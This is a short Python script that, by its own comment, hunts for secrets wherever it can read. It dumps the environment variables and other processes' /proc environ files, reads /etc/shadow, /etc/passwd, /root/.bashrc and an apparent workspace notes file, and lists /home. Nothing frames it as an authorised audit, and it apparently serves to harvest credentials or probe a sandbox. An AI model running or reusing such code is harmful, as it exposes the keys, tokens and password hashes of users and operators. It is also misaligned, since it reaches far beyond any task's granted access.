# Looks for secrets everywhere it can read: environment, other processes' environ, shadow, home dirs.
import glob
import os

print("ENV", dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print(path, open(path, "rb").read())
    except OSError as e:
        print(path, e.strerror)
for path in ("/etc/shadow", "/etc/passwd", "/root/.bashrc", "/work/notes/preamble.md", "/home"):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as e:
        print(path, e.strerror)
